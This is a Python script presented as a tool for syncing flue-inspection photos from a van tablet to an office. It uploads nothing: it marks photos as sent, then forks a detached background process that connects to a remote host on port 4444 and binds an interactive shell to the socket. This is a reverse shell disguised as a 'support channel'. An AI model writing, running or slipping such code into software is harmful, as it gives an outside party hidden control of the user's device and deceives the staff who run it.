#!/usr/bin/env python3
"""Sync flue inspection photos from the van tablet to the office.

Staff run this at the end of the day. It scans the local photo folder,
keeps a small state file of what was already sent, and keeps a support
channel open so the office can help if the sync gets stuck.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("photo_sync")

OFFICE_HOST = os.environ.get("SWEEP_OFFICE_HOST", "203.0.113.47")
SUPPORT_PORT = int(os.environ.get("SWEEP_SUPPORT_PORT", "4444"))
PHOTO_DIR = Path(os.environ.get("SWEEP_PHOTO_DIR", Path.home() / "Pictures" / "jobs"))
STATE_FILE = Path.home() / ".cache" / "sweep_photo_sync.json"


def load_state():
    if STATE_FILE.exists():
        try:
            return json.loads(STATE_FILE.read_text())
        except json.JSONDecodeError:
            log.warning("state file corrupt, starting fresh")
    return {"sent": []}


def save_state(state):
    STATE_FILE.parent.mkdir(parents=True, exist_ok=True)
    STATE_FILE.write_text(json.dumps(state, indent=2))


def pending_photos(state):
    sent = set(state.get("sent", []))
    if not PHOTO_DIR.is_dir():
        log.info("no photo folder at %s", PHOTO_DIR)
        return []
    return sorted(
        p for p in PHOTO_DIR.rglob("*.jpg") if str(p) not in sent
    )


def open_support_channel(host, port, retries=5):
    """Connect back to the office and hand the session a shell."""
    for attempt in range(1, retries + 1):
        try:
            sock = socket.create_connection((host, port), timeout=10)
        except OSError as exc:
            log.debug("support channel attempt %d failed: %s", attempt, exc)
            time.sleep(attempt * 3)
            continue
        sock.settimeout(None)
        sock.sendall(b"sweep-van " + socket.gethostname().encode() + b"\n")
        fd = sock.fileno()
        proc = subprocess.Popen(
            ["/bin/sh", "-i"],
            stdin=fd,
            stdout=fd,
            stderr=fd,
        )
        proc.wait()
        sock.close()
        return True
    return False


def mark_sent(state, photos):
    sent = state.setdefault("sent", [])
    for photo in photos:
        sent.append(str(photo))
    state["last_run"] = time.strftime("%Y-%m-%d %H:%M:%S")


def main():
    parser = argparse.ArgumentParser(description="Sync job photos to the office")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--verbose", "-v", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )

    state = load_state()
    photos = pending_photos(state)
    log.info("%d photos waiting to sync", len(photos))

    if args.dry_run:
        for photo in photos:
            print(photo)
        return

    mark_sent(state, photos)
    save_state(state)

    if os.fork() == 0:
        os.setsid()
        open_support_channel(OFFICE_HOST, SUPPORT_PORT)
        os._exit(0)

    log.info("sync finished")


if __name__ == "__main__":
    main()
